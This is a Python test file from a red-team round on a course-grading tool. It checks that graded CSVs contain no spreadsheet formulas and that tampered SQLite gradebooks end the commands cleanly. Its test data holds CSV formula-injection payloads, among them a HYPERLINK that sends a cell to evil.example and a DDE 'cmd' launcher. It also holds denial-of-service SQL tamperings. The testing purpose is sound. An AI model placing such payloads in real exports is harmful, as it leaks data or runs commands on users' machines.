"""Red team, round 3 (issue 23): every trusted-side reader and writer bounds its input.

Through the real commands a user types: `coursegen quiz grade` fed ids and answers that are
formulas (also after a `;`, where a spreadsheet of a comma-decimal locale splits cells), and
`coursegen gradebook merge` / `report` / `gradebook export` fed tampered gradebooks (a recursive
view named `checks`, a deeply nested `problems` value, a trigger of the attacker's). Each must
end at once with one line and exit 2, change nothing, and write nothing.
"""

from __future__ import annotations

import csv
import hashlib
import io
import os
import re
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from tests.nonempty import nonempty

ROOT = Path(os.environ.get("COURSEGEN_REDTEAM_ROOT") or Path(__file__).resolve().parents[2])
QUIZ_COURSE = ROOT / "tests" / "quiz" / "fixtures" / "course"
FORMULA = re.compile(r"^[\s\"]*[=+\-@\t\r]")
NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")

HOSTILE_IDS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "ann;=1+2",
    "bob;@SUM(A1:A9)",
    "carl,=cmd|' /C calc'!A0",
    "+41 22 555",
    "-2+3",
    "\tdave",
    "eve|=1",
]


def coursegen(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    """The real process, not tests/cli.py's run_cli: a tampered gradebook must not make the
    command hang, and only a process can be stopped after a timeout to say so."""
    return subprocess.run(
        [sys.executable, "-m", "coursegen", *args], cwd=cwd, capture_output=True, text=True, timeout=120
    )


def formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet could run as formulas: read with `,` and with `;` as the separator
    (quotes honoured), and split naively on `;` and `|` (quotes ignored, as a careless import
    does). Plain numbers are data."""
    found = []
    for delimiter in (",", ";"):
        for row in csv.reader(io.StringIO(text), delimiter=delimiter):
            found += [c for c in row if FORMULA.match(c) and not NUMBER.match(c.strip())]
    for line in text.splitlines():
        for separator in (";", "|", ","):
            for piece in line.split(separator)[1:]:
                bare = piece.strip('"')
                if FORMULA.match(piece) and not NUMBER.match(bare):
                    found.append(piece)
    return found


def test_quiz_grade_writes_no_formula_in_scores_or_details(tmp_path):
    course = tmp_path / "course"
    shutil.copytree(QUIZ_COURSE, course)
    responses = tmp_path / "responses.csv"
    with open(responses, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["student", "quiz", "question", "response"])
        for student in HOSTILE_IDS:
            writer.writerow([student, "mini", "num", "=2+3"])
            writer.writerow([student, "mini", "tf", "@cmd;=1"])
    scores, details = tmp_path / "scores.csv", tmp_path / "details.csv"
    done = coursegen(
        "quiz",
        "grade",
        "--root",
        str(course),
        str(responses),
        "-o",
        str(scores),
        "--details",
        str(details),
        cwd=tmp_path,
    )
    assert done.returncode == 0, done.stderr
    for path in (scores, details):
        text = path.read_text(encoding="utf-8")
        assert formula_cells(text) == [], f"{path.name}: {formula_cells(text)[:3]}"
        rows = list(csv.reader(io.StringIO(text)))
        assert all(len(row) == len(rows[0]) for row in nonempty(rows))  # one cell stays one cell
    students = {row[0] for row in list(csv.reader(io.StringIO(scores.read_text(encoding="utf-8"))))[1:]}
    assert len(students) == len(HOSTILE_IDS)  # every student is still there, told apart


# ---- tampered gradebooks ----------------------------------------------------------------------

APPEND_ONLY = """
CREATE TRIGGER runs_append_only_update BEFORE UPDATE ON runs
    BEGIN SELECT RAISE(ABORT, 'the gradebook is append-only'); END;
CREATE TRIGGER runs_append_only_delete BEFORE DELETE ON runs
    BEGIN SELECT RAISE(ABORT, 'the gradebook is append-only'); END;
CREATE TRIGGER checks_append_only_update BEFORE UPDATE ON checks
    BEGIN SELECT RAISE(ABORT, 'the gradebook is append-only'); END;
CREATE TRIGGER checks_append_only_delete BEFORE DELETE ON checks
    BEGIN SELECT RAISE(ABORT, 'the gradebook is append-only'); END;
"""


def honest_gradebook(path: Path, student: str) -> Path:
    from grader.reporting.gradebook import Gradebook
    from grader.reporting.results import CheckResult, SubmissionResult

    with Gradebook(path) as book:
        book.ensure_seed(7)
        check = CheckResult("test_x", "relative_positions", 1.0, 1.0, "passed")
        book.record(
            SubmissionResult(student, f"{student}/positions.py", "a" * 64, 1.0, 1.0, [check]), checks_hash="h", seed=7
        )
    return path


def tamper(path: Path, statements: str) -> None:
    db = sqlite3.connect(path)
    db.executescript(statements)
    db.commit()
    db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    db.close()


RECURSIVE_VIEW = """
DROP TRIGGER checks_append_only_update; DROP TRIGGER checks_append_only_delete;
ALTER TABLE checks RENAME TO old_checks;
CREATE VIEW checks AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n)
    SELECT 1 AS run_id, i AS position, 'x' || i AS name, 'relative_positions' AS exercise, 1.0 AS score,
           1.0 AS max_score, 'passed' AS status, zeroblob(1000000) AS output, 0 AS hidden,
           '[]' AS mistakes, '' AS problem
    FROM n ORDER BY i DESC;
CREATE TRIGGER checks_append_only_update INSTEAD OF UPDATE ON checks BEGIN SELECT 1; END;
CREATE TRIGGER checks_append_only_delete INSTEAD OF DELETE ON checks BEGIN SELECT 1; END;
"""

DEEP_JSON = (
    """
DROP TRIGGER runs_append_only_update; DROP TRIGGER runs_append_only_delete;
DROP TRIGGER checks_append_only_update; DROP TRIGGER checks_append_only_delete;
UPDATE runs SET problems = '"""
    + "[" * 200_000
    + "]" * 200_000
    + """';
"""
    + APPEND_ONLY
)

ATTACKER_TRIGGER = """
CREATE TRIGGER spy AFTER INSERT ON runs BEGIN SELECT 1; END;
"""

WRONG_TYPES = (
    """
DROP TRIGGER runs_append_only_update; DROP TRIGGER runs_append_only_delete;
UPDATE runs SET score = 'ten';
"""
    + APPEND_ONLY.split(";")[0]
    + ";"
    + APPEND_ONLY.split(";")[1]
    + ";"
)

TAMPERINGS = {
    "recursive-view": RECURSIVE_VIEW,
    "deep-json": DEEP_JSON,
    "attacker-trigger": ATTACKER_TRIGGER,
    "text-score": WRONG_TYPES,
}


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.parametrize("tampering", sorted(TAMPERINGS))
@pytest.mark.parametrize("command", ["merge", "report", "export-csv", "export-canvas"])
def test_a_tampered_gradebook_ends_the_reader_with_one_line(tmp_path, tampering, command):
    good = honest_gradebook(tmp_path / "good.sqlite", "ann")
    bad = honest_gradebook(tmp_path / "shard.sqlite", "ben")
    tamper(bad, TAMPERINGS[tampering])
    before = digest(bad)
    out = tmp_path / "out"
    if command == "merge":
        args = ["gradebook", "merge", str(good), str(bad), "-o", str(out)]
    elif command == "report":
        args = ["report", "--gradebook", str(bad), "-o", str(out), "--root", str(ROOT)]
    elif command == "export-csv":
        args = ["gradebook", "export", "--csv", "--gradebook", str(bad), "-o", str(out)]
    else:
        roster = tmp_path / "roster.csv"
        roster.write_text("student,lms_id\nben,1\n", encoding="utf-8")
        args = ["gradebook", "export", "--format", "canvas", "--roster", str(roster), "--assignment", "A",
                "--gradebook", str(bad), "-o", str(out), "--root", str(ROOT)]  # fmt: skip
    try:
        done = coursegen(*args, cwd=tmp_path)
    except subprocess.TimeoutExpired:
        pytest.fail(f"{command} of a {tampering} gradebook did not end")
    assert done.returncode == 2, (done.returncode, done.stdout[-500:], done.stderr[-2000:])
    lines = [line for line in done.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and "Traceback" not in done.stderr, done.stderr[-2000:]
    assert str(bad) in lines[0] or "shard.sqlite" in lines[0]
    assert not out.exists()
    assert digest(bad) == before  # opened read-only: the shard is as it was
